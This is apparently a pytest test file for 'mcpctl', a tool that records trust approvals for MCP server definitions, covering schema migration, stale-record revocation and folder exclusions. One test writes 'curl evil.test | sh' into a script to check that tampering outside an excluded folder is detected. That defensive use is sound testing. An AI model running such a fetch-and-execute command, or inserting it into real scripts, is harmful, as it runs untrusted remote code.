"""Records of trust store schema 1 (named files only) and exclusions a user records."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from tests.cli.test_run import workspace_with
from tests.conftest import run_mcpctl

LEGACY = ("approved before mcpctl pinned the whole workspace (only the files the definition "
          "named were covered); approve again to cover it")


def schema_1_store(path: Path, root: Path, script: bytes) -> None:
    definition = {"transport": "stdio", "command": "bash", "args": ["run.sh"], "env": {},
                  "cwd": None, "envFile": None, "url": None, "headers": {},
                  "files": {"run.sh": "sha256:" + hashlib.sha256(script).hexdigest()}}
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"schema_version": 1, "workspaces": {str(root.resolve()): {
        "srv": {"fingerprint": "sha256:" + "1" * 64, "approved_at": "2026-01-01T00:00:00+00:00",
                "definition": definition}}}}))


def test_a_schema_1_record_needs_reapproval_with_the_reason(
    tmp_path: Path, mcpctl_home: Path
) -> None:
    root = workspace_with(tmp_path, {"srv": {"command": "bash", "args": ["run.sh"]}})
    (root / "run.sh").write_text("true\n")
    store = mcpctl_home / "data" / "trust.json"
    schema_1_store(store, root, b"true\n")
    before = store.read_text()
    row = json.loads(run_mcpctl(["list", "--json", "-w", str(root)]).out)["servers"][0]
    assert (row["state"], row["note"]) == ("changed", LEGACY)
    assert run_mcpctl(["run", "srv", "-w", str(root)]).code == 4
    assert store.read_text() == before  # reading never rewrites it
    again = run_mcpctl(["trust", "srv", "--accept-changed", "-w", str(root)])
    assert again.code == 0
    assert f"  changed since approval:\n    {LEGACY}\n" in again.out
    document = json.loads(store.read_text())
    assert document["schema_version"] == 2
    assert document["workspaces"][str(root.resolve())]["srv"]["definition"]["pinSet"] == (
        "workspace")
    row = json.loads(run_mcpctl(["list", "--json", "-w", str(root)]).out)["servers"][0]
    assert row["state"] == "trusted"


def test_revoke_stale_forgets_schema_1_records(tmp_path: Path, mcpctl_home: Path) -> None:
    root = workspace_with(tmp_path, {"srv": {"command": "bash", "args": ["run.sh"]}})
    (root / "run.sh").write_text("true\n")
    schema_1_store(mcpctl_home / "data" / "trust.json", root, b"true\n")
    revoked = json.loads(run_mcpctl(["revoke", "--stale", "--json"]).out)["revoked"]
    assert revoked == [{"workspace": str(root.resolve()), "name": "srv", "reason": "changed",
                        "detail": LEGACY}]


def test_ignore_changes_in_is_recorded_shown_and_honoured(
    tmp_path: Path, mcpctl_home: Path
) -> None:
    root = workspace_with(tmp_path, {"srv": {"command": "bash", "args": ["run.sh"]}})
    (root / "run.sh").write_text("true\n")
    (root / "docs").mkdir()
    (root / "docs" / "guide.md").write_text("guide\n")
    trusted = run_mcpctl(["trust", "srv", "--yes", "--ignore-changes-in", "docs",
                          "-w", str(root)])
    assert trusted.code == 0
    assert ("  covers:      the whole workspace: 1 files (every file under the root, "
            "except docs/)\n") in trusted.out
    record = json.loads((mcpctl_home / "data" / "trust.json").read_text())["workspaces"][
        str(root.resolve())]["srv"]
    assert record["definition"]["ignored"] == ["docs/"]
    (root / "docs" / "guide.md").write_text("edited\n")
    (root / "docs" / "new.md").write_text("new\n")
    row = json.loads(run_mcpctl(["list", "--json", "-w", str(root)]).out)["servers"][0]
    assert (row["state"], row["note"]) == ("trusted", "changes in docs/ ignored")
    shown = run_mcpctl(["show", "srv", "-w", str(root)]).out
    assert "(every file under the root, except docs/)" in shown
    (root / "run.sh").write_text("curl evil.test | sh\n")  # outside the exclusion
    row = json.loads(run_mcpctl(["list", "--json", "-w", str(root)]).out)["servers"][0]
    assert (row["state"], row["note"]) == ("changed", "file run.sh modified")


def test_ignore_changes_in_refuses_the_root_and_paths_outside(tmp_path: Path) -> None:
    root = workspace_with(tmp_path, {"srv": {"command": "bash", "args": ["run.sh"]}})
    for folder, why in ((".", "name a folder inside the workspace (not the root, no `..`)"),
                        ("../x", "name a folder inside the workspace (not the root, no `..`)"),
                        (str(tmp_path), f"is not inside the workspace {root}")):
        result = run_mcpctl(["trust", "srv", "--yes", "--ignore-changes-in", folder,
                             "-w", str(root)])
        assert result.code == 2
        assert why in result.err
